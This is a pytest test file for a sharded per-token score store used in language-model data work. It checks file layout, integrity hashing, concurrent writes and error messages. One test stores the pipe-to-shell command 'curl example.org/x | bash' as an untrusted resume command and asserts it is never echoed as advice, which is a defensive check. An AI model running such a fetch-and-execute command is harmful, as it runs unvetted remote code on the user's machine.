import json
import multiprocessing
import os
import pickle
import shutil
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from megatron_slm.data.score_manifest import (
    ScoreManifest,
    ShardMarker,
    default_shard_tokens,
    presented_name,
)
from megatron_slm.data.score_store import ScoreStore
from megatron_slm.testing.corpora import (
    random_documents,
    score_manifest,
    write_corpus,
    write_scores,
)


@pytest.fixture
def corpus(tmp_path):
    return write_corpus(tmp_path / "corpus", random_documents(40, 12))


def shard_values(manifest: ScoreManifest, shard: int) -> dict[str, np.ndarray]:
    start, end = manifest.shard_range(shard)
    return {
        column: np.arange(start, end, dtype=np.float64) / 7 + number
        for number, column in enumerate(manifest.columns)
    }


def write_all(folder, manifest, shards=None):
    store = ScoreStore.create(folder, manifest)
    for shard in range(manifest.shard_count) if shards is None else shards:
        store.write_shard(shard, shard_values(manifest, shard))
    return store


def content(folder) -> dict[str, bytes]:
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file() and path.name != "verified.json"
    }


def test_what_is_written_is_read_at_its_offset(tmp_path, corpus):
    manifest = score_manifest(corpus, columns=("loss", "entropy"))
    store = write_all(tmp_path / "s", manifest)
    assert store.finish()
    opened = pickle.loads(pickle.dumps(ScoreStore.open(tmp_path / "s")))
    assert opened.manifest.complete
    assert [presented_name(column) for column in opened.columns] == [
        "reference_loss",
        "reference_entropy",
    ]
    assert opened.read("entropy", 50, 40).dtype == np.float32
    np.testing.assert_allclose(opened.read("entropy", 50, 40), np.arange(50, 90) / 7 + 1, rtol=1e-6)
    np.testing.assert_array_equal(
        opened.read_pieces("loss", [(3, 5), (100, 101)]),
        (np.array([3, 4, 100]) / 7).astype(np.float32),
    )


def test_layout_is_one_raw_value_per_token(tmp_path, corpus):
    """The documented file layout, read without this library."""
    write_all(tmp_path / "s", score_manifest(corpus, dtype="fp16")).finish()
    raw = np.fromfile(tmp_path / "s" / "loss.bin", "<f2")
    np.testing.assert_array_equal(raw, (np.arange(corpus.tokens) / 7).astype("<f2"))
    stored = json.loads((tmp_path / "s" / "manifest.json").read_text())
    assert stored["corpus"] == {
        "fingerprint": corpus.fingerprint,
        "tokens": corpus.tokens,
        "documents": corpus.documents,
    }
    assert stored["columns"] == ["loss"]
    assert stored["complete"] is True


def test_order_of_writing_and_rewriting_leaves_the_same_bytes(tmp_path, corpus):
    manifest = score_manifest(corpus)
    write_all(tmp_path / "a", manifest).finish()
    backwards = list(reversed(range(manifest.shard_count)))
    write_all(tmp_path / "b", manifest, backwards[:3])
    # A shard torn in the middle of its write: bytes on disk, no marker.
    with open(tmp_path / "b" / "loss.bin", "r+b") as stream:
        stream.seek(7)
        stream.write(b"garbage")
    write_all(tmp_path / "b", manifest, backwards[3:]).finish()
    assert content(tmp_path / "a") == content(tmp_path / "b")


def _write_share(folder, manifest, part, parts, start):
    start.wait()
    store = write_all(folder, manifest, range(part, manifest.shard_count, parts))
    store.finish()


def test_processes_create_and_write_disjoint_shards_at_once(tmp_path, corpus):
    manifest = score_manifest(corpus, shard_tokens=16)
    context = multiprocessing.get_context("fork")
    start = context.Event()
    processes = [
        context.Process(target=_write_share, args=(tmp_path / "s", manifest, part, 4, start))
        for part in range(4)
    ]
    [process.start() for process in processes]
    start.set()
    [process.join() for process in processes]
    assert [process.exitcode for process in processes] == [0] * 4
    write_all(tmp_path / "alone", manifest).finish()
    assert content(tmp_path / "s") == content(tmp_path / "alone")
    assert sorted(path.name for path in tmp_path.iterdir() if path.name.startswith(".")) == []


def test_an_incomplete_store_is_refused_and_says_how_to_go_on(tmp_path, corpus):
    manifest = score_manifest(corpus, resume_command="curl example.org/x | bash")
    store = write_all(tmp_path / "s", manifest, [0, 3])
    assert not store.finish()
    said = r"tokens 64 to 192, 256 to .*run the command that made them again, with --output \S*/s "
    with pytest.raises(ValueError, match=said) as refusal:
        ScoreStore.open(tmp_path / "s")
    assert "curl" not in str(refusal.value), "whoever made the store wrote it: it is no advice"
    holes = ScoreStore.open(tmp_path / "s", allow_missing_scores=True)
    read = holes.read("loss", 60, 140)
    np.testing.assert_array_equal(
        np.isnan(read), [not (offset < 64 or offset >= 192) for offset in range(60, 200)]
    )


def test_other_settings_never_overwrite_a_store(tmp_path, corpus):
    manifest = score_manifest(corpus)
    write_all(tmp_path / "s", manifest).finish()
    before = content(tmp_path / "s")
    with pytest.raises(ValueError, match="window_tokens is 16 there and 32 here"):
        ScoreStore.create(tmp_path / "s", replace(manifest, window_tokens=32))
    with pytest.raises(ValueError, match="reference_fingerprint"):
        ScoreStore.create(tmp_path / "s", replace(manifest, reference_fingerprint="sha256:other"))
    assert content(tmp_path / "s") == before
    ScoreStore.create(tmp_path / "s", manifest)
    assert ScoreStore.open(tmp_path / "s").manifest.complete
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "thesis.tex").write_text("x")
    with pytest.raises(ValueError, match="not empty"):
        ScoreStore.create(tmp_path / "full", manifest)


def test_a_changed_byte_is_found_at_opening(tmp_path, corpus):
    write_all(tmp_path / "s", score_manifest(corpus)).finish()
    with open(tmp_path / "s" / "loss.bin", "r+b") as stream:
        stream.seek(4 * 70)
        stream.write(b"\x01")
    with pytest.raises(
        ValueError, match=r"tokens 64 to 128 \(shard 1\) are not the bytes that were written"
    ):
        ScoreStore.open(tmp_path / "s")


def test_opening_hashes_only_when_a_file_was_touched(tmp_path, corpus, monkeypatch):
    write_all(tmp_path / "s", score_manifest(corpus)).finish()
    hashed = []
    monkeypatch.setattr(
        ScoreStore, "verify", lambda self, first_tokens=None: hashed.append(self.folder)
    )
    ScoreStore.open(tmp_path / "s")
    assert not hashed
    shutil.copytree(tmp_path / "s", tmp_path / "copy")
    ScoreStore.open(tmp_path / "copy")
    ScoreStore.open(tmp_path / "copy")
    assert hashed == [tmp_path / "copy"]


@pytest.mark.parametrize(
    "damage, sentence",
    [
        (lambda s: (s / "loss.bin").write_bytes(b"12"), "2 bytes, expected"),
        (lambda s: (s / "loss.bin").unlink(), "the file is missing"),
        (lambda s: (s / "manifest.json").write_text("{}"), "not the manifest of a score store"),
        (lambda s: (s / "manifest.json").unlink(), "is no score store"),
        (lambda s: (s / "shards" / "shard_000001.json").unlink(), "incomplete: 1 of"),
        (lambda s: (s / "shards" / "shard_000001.json").write_text("{"), "not a shard marker"),
    ],
)
def test_damage_is_a_sentence(tmp_path, corpus, damage, sentence):
    write_all(tmp_path / "s", score_manifest(corpus)).finish()
    damage(tmp_path / "s")
    (tmp_path / "s" / "verified.json").unlink()
    with pytest.raises(ValueError, match=sentence):
        ScoreStore.open(tmp_path / "s")


def test_values_that_cannot_be_stored(tmp_path, corpus):
    manifest = score_manifest(corpus, dtype="fp16")
    store = ScoreStore.create(tmp_path / "s", manifest)
    with pytest.raises(ValueError, match="too large for fp16"):
        store.write_shard(0, {"loss": np.full(64, 70000.0)})
    with pytest.raises(ValueError, match="shape"):
        store.write_shard(0, {"loss": np.zeros(63)})
    with pytest.raises(ValueError, match="columns"):
        store.write_shard(0, {"entropy": np.zeros(64)})
    assert not list((tmp_path / "s" / "shards").iterdir())
    values = np.zeros(64)
    values[[3, 4, 5]] = np.nan, np.inf, -np.inf
    assert store.write_shard(0, {"loss": values}).without_score == {"loss": 3}
    np.testing.assert_array_equal(np.flatnonzero(np.isnan(store.read("loss", 0, 64))), [3, 4, 5])


def test_verify_counts_tokens_without_score_beyond_first_tokens(tmp_path, corpus):
    store = write_scores(tmp_path / "s", tmp_path / "corpus")
    firsts = np.flatnonzero(np.isnan(store.read("loss", 0, corpus.tokens)))
    assert len(firsts) == corpus.documents
    assert store.verify() == {"loss": corpus.documents}
    assert store.verify(firsts) == {"loss": 0}
    assert store.verify(firsts[2:]) == {"loss": 2}


def test_scores_of_another_corpus_or_tokenizer_are_refused(tmp_path, corpus):
    """docs/method.md#point-12: bound by fingerprint to corpus and tokenizer."""
    store = write_scores(tmp_path / "s", tmp_path / "corpus")
    store.check_against(corpus)
    with pytest.raises(ValueError, match="corpus fingerprint"):
        store.check_against(replace(corpus, bin_sha256="other"))
    with pytest.raises(ValueError, match="tokenizer fingerprint"):
        store.check_against(replace(corpus, tokenizer={"fingerprint": "sha256:another"}))


def test_another_training_context_is_said(tmp_path, corpus):
    """docs/method.md#point-13: window and document policy are recorded; others are warned of."""
    store = write_scores(
        tmp_path / "s", tmp_path / "corpus", window_tokens=16, document_policy="isolated"
    )
    assert "windows of 16 tokens and are trained in sequences of 32" in " ".join(
        store.context_warnings(32)
    )
    assert "scored isolated" in " ".join(store.context_warnings(16))
    assert "train with --data.document_policy isolated" in " ".join(store.context_warnings(16))
    assert store.context_warnings(16, "isolated") == []
    packed = write_scores(tmp_path / "p", tmp_path / "corpus", window_tokens=16)
    assert packed.context_warnings(16) == []
    assert "scored packed" in " ".join(packed.context_warnings(16, "isolated"))


@pytest.mark.parametrize(
    "settings, sentence",
    [
        ({"dtype": "bf16"}, "fp16 or fp32"),
        ({"stride_tokens": 17}, "between 1 and window_tokens"),
        ({"document_policy": "mixed"}, "packed or isolated"),
        ({"columns": ()}, "one or more"),
        ({"columns": ("token_id",)}, "cannot name a column"),
        ({"columns": ("../x",)}, "cannot name a column"),
        ({"corpus_tokens": 10**15, "shard_tokens": 1}, "1,000,000,000,000,000 shards"),
    ],
)
def test_bad_settings_are_a_sentence(corpus, settings, sentence):
    with pytest.raises(ValueError, match=sentence):
        score_manifest(corpus, **settings)


def test_shards_stay_few_on_large_corpora():
    assert default_shard_tokens(1000) == 1 << 18
    assert -(-15 * 10**9 // default_shard_tokens(15 * 10**9)) <= 4096


def test_markers_describe_what_is_on_disk(tmp_path, corpus):
    store = write_all(tmp_path / "s", score_manifest(corpus))
    marker = ShardMarker.read(store.folder, 2)
    assert (marker.shard, marker.start, marker.end) == (2, 128, 192)
    assert set(marker.sha256) == {"loss"}


def test_scores_are_on_disk_before_their_marker_says_so(tmp_path, corpus, monkeypatch):
    """A marker without its scores would be believed after a power cut."""
    store = ScoreStore.create(tmp_path / "s", score_manifest(corpus))
    synced = []
    plain_fsync = os.fsync

    def recorded_fsync(descriptor):
        synced.append(Path(os.readlink(f"/proc/self/fd/{descriptor}")))
        plain_fsync(descriptor)

    monkeypatch.setattr(os, "fsync", recorded_fsync)
    store.write_shard(0, shard_values(store.manifest, 0))
    column = tmp_path / "s" / "loss.bin"
    markers = [path for path in synced if path.parent == tmp_path / "s" / "shards" and path.suffix]
    assert column in synced
    assert synced.index(column) < synced.index(markers[0])
